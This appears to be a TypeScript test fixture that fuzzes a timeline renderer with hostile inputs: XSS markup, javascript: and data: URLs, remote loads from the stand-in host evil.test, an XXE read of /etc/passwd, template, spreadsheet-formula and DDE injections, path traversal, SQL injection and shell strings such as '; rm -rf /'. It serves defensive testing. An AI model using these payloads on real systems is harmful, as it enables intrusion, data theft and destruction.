/**
 * Texts that strangers write to make a page do what it should not: markup, addresses, templates, formulas, odd characters.
 * Whatever of them runs calls `pwned()`.
 */
const RUN = 'pwned()';

const MARKUP = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script src=//evil.test/x.js></script>`, `</script><script>${RUN}</script>`, `<script/x>${RUN}</script>`, `<script\n>${RUN}</script\n>`,
  ...['load', 'error', 'click', 'focus', 'mouseover', 'pointerenter', 'animationstart', 'toggle', 'begin', 'wheel'].flatMap((event) => [`<img src=x on${event}=${RUN}>`, `<svg on${event}=${RUN}>`, `" on${event}="${RUN}`, `' on${event}='${RUN}`]),
  `<img src=x onerror=${RUN}//`, `<img/src/onerror=${RUN}>`, `<img src="x\`onerror=${RUN}">`, `<<img src=x onerror=${RUN}>`, `<img src=x:x onerror\x0b=${RUN}>`, `<image href=x onerror=${RUN}>`, `<video><source onerror=${RUN}></video>`, `<audio src onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="javascript:parent.${RUN}"></iframe>`, `<object data="javascript:${RUN}"></object>`, `<embed src="javascript:${RUN}">`, `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`, `<a href=" &#1;javascript:${RUN}">x</a>`, `<a xlink:href="javascript:${RUN}">x</a>`, `<base href="//evil.test/">`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<link rel=stylesheet href=//evil.test/x.css>`,
  `<style>*{background:url(//evil.test/x)}</style>`, `<style>@import "//evil.test/x.css";</style>`, `<div style="background:url(javascript:${RUN})">`, `<div style="width:expression(${RUN})">`, `<details open ontoggle=${RUN}>`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`, `<body onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`, `<svg><a><animate attributeName=href values="javascript:${RUN}"/></a></svg>`, `<svg><set attributeName=onmouseover to="${RUN}"/></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"/></svg>`, `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`, `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`, `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`, `<!--><img src=x onerror=${RUN}>-->`, `<!--<img src="--><img src=x onerror=${RUN}//">`, `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<?xml-stylesheet href="javascript:${RUN}"?>`, `]]><script>${RUN}</script>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
  `<annals-timeline src="//evil.test/x.json"></annals-timeline>`, `<slot name="details"></slot>`, `<button popovertarget=x onclick=${RUN}>`, `<x contenteditable onblur=${RUN}>`, `<marquee onstart=${RUN}>`, `<dialog open onclose=${RUN}>`, `<portal src="javascript:${RUN}">`,
  '"><', '\'><', '`><', '</title>', '</textarea>', '</text>', '</svg>', '</td></tr></table>', '-->', '&lt;script&gt;', '&#60;script&#62;', '&quot;', '&', '&amp;amp;', '%3Cscript%3E', '\\u003cscript\\u003e', '\\x3cscript\\x3e', '+ADw-script+AD4-',
];

const ADDRESSES = [
  ...['javascript:', 'JavaScript:', 'JAVASCRIPT:', ' javascript:', '\tjavascript:', '\u0001javascript:', 'java\tscript:', 'java\nscript:', 'java\rscript:', 'javascript\t:', 'javascript&colon;', 'javascript://%0a', 'javascript:/*--></title></style>*/', 'view-source:javascript:', 'feed:javascript:', 'jar:javascript:'].map((scheme) => scheme + RUN),
  `vbscript:${RUN}`, `livescript:${RUN}`, `mocha:${RUN}`, `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`, `data:application/javascript,${RUN}`, `data:,${RUN}`, `blob:http://evil.test/1`,
  'filesystem:http://evil.test/x', 'file:///etc/passwd', 'ftp://evil.test/x', 'ws://evil.test', 'about:blank', 'chrome://settings', 'ms-settings:', 'intent://x#Intent;end', 'x-apple:', '//evil.test', '\\\\evil.test', '/\\evil.test', 'https:evil.test', 'http:\\\\evil.test', 'https://user:password@evil.test/', 'https://good.test@evil.test/',
  'http://evil.test/x.png', 'https://evil.test/x.mp4?"onerror=pwned()', 'https://www.youtube.com/watch?v=aaaaaaaaaaa"onload="pwned()', 'https://youtu.be/../../pwned.html', 'https://www.youtube.com.evil.test/watch?v=aaaaaaaaaaa', 'https://vimeo.com/1?x=<script>', 'http://[', 'http://[::1', 'http://%', 'https://', 'mailto:', 'mailto:a@b.test?body=<script>', 'tel:+1<script>', 'http://evil.test/"onclick="pwned()', 'http://evil.test/\'onclick=\'pwned()', 'http://evil.test/<script>', 'http://xn--80ak6aa92e.test', 'http://аpple.test', 'http://evil.test:99999', '?javascript:', '#javascript:', '../../../../etc/passwd',
];

const TEMPLATES = [
  '${pwned()}', '#{pwned()}', '{{pwned()}}', '{{constructor.constructor("pwned()")()}}', '<%= pwned() %>', '${{7*7}}', '{%raw%}', '[[pwned()]]', '@{pwned()}', '{php}pwned(){/php}', '`${pwned()}`', "'+pwned()+'", '"+pwned()+"', "';pwned()//", '";pwned()//', '\\";pwned()//', '*/pwned()/*', '?{pwned()}', 'lit$123456789$', '<!--?lit$123456789$-->', '<?lit$123456789$>', '{{lit-123456789}}', '$lit$', 'style$lit$', '@click', '.innerHTML', '?hidden',
  'eval("pwned()")', 'Function("pwned()")()', 'setTimeout("pwned()")', 'import("data:text/javascript,pwned()")', '(()=>pwned())()',
];

const FORMULAS = [
  '=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', "'=1+1", '"=1+1', '=cmd|" /C calc"!A0', '=HYPERLINK("http://evil.test","x")', '=WEBSERVICE("http://evil.test")', '=IMPORTXML("http://evil.test","//a")', '=DDE("cmd","/C calc","x")', '@foo,bar', '=1;=2', ' =1+1', ';=1+1', '|calc', '%0A=1+1',
];

const STYLES = [
  'red;background:url(//evil.test/x)', 'url(//evil.test/x)', 'image-set("//evil.test/x" 1x)', 'expression(pwned())', 'red}*{color:red', 'var(--_ink);x:url(//evil.test)', '@import "//evil.test"', 'attr(href)', 'env(x)', '</style><script>pwned()</script>', 'red!important', '\\75rl(//evil.test/x)', 'cross-fade(url(//evil.test/x),red)', 'element(#x)', '-moz-binding:url(//evil.test/x)', 'paint(x)', 'src("//evil.test/x")',
];

const CHARACTERS = [
  '\0', '\u0001', '\u0008', '\u000b', '\u001b[31m', '\u007f', '\u0085', '\u00ad', '\u200b', '\u200d', '\u2028pwned()', '\u2029pwned()', '\u202e evil', '\u202d', '\u2066', '\u2067 x', '\u2069', '\u200f', '\u061c', '\ufeff', '\ufffe', '\uffff', '\ud800', '\udc00', '\ud83d', 'a\ud800b', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', '\u{e0001}\u{e0041}', 'Z\u0351\u036b\u0343\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a', 'ﷺ', '﷽', 'İ', 'ﬀ', '\r\n', '\r', '\t', '   ', 'x'.repeat(5000), 'W'.repeat(300), '\u{1f600}'.repeat(200),
];

const NAMES = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', '__lookupGetter__', 'innerHTML', 'id', 'name', 'length', 'event-1', 'event-2', '0', '-1', '1e3', 'NaN', 'null', 'undefined', 'true', 'get', 'then', 'default', 'item', 'forEach', 'summary', 'frame', 'plot', 'document', 'window', 'location', 'cluster:1', '[data-id]', '"]', '#x', '.x', '*', ':host', '\\', '\\"', 'a b', '../..', 'CON', "Robert'); DROP TABLE events;--", '" OR ""="', '$(reboot)', '`reboot`', '; rm -rf /', '%s%n%x', '{0}', '../../etc/passwd%00', '\u202eevent',
];

/** Each once. */
export const PAYLOADS: readonly string[] = [...new Set([...MARKUP, ...ADDRESSES, ...TEMPLATES, ...FORMULAS, ...STYLES, ...CHARACTERS, ...NAMES])];

/** An event with a payload in every text that it can have. */
export function hostileEvent(payload: string, place: number): object {
  return {
    id: payload, title: payload, date: {edtf: String(1900 + (place % 100)), text: payload}, description: payload, type: [payload], tags: [payload], group: payload, actors: [payload], places: [payload],
    sources: [payload, {source: payload, via: payload, quote: payload, url: payload}], links: [{url: payload, title: payload}, {url: payload}], color: payload,
    claims: [{date: String(1950 + (place % 50)), source: payload, reason: payload}],
    media: [{url: payload, thumbnail: payload, type: payload, alt: payload, caption: payload, credit: payload}], ext: {[payload]: payload},
  };
}

/** A document with payloads in every text that it can have: one event for each of them. */
export function hostileDocument(payloads: readonly string[]): object {
  const all = payloads.join(' ');
  const entities = payloads.map((payload) => ({id: payload, name: payload, type: payload, description: payload, url: payload}));
  return {
    id: all, title: all, description: all, licence: all, events: payloads.map(hostileEvent), actors: entities, places: entities, sources: entities,
    groups: payloads.map((payload) => ({id: payload, title: payload, color: payload})),
    relations: payloads.slice(1).map((to, i) => ({type: i % 2 === 0 ? 'announces' : to, from: payloads[i], to, label: to})), ext: {all},
  };
}
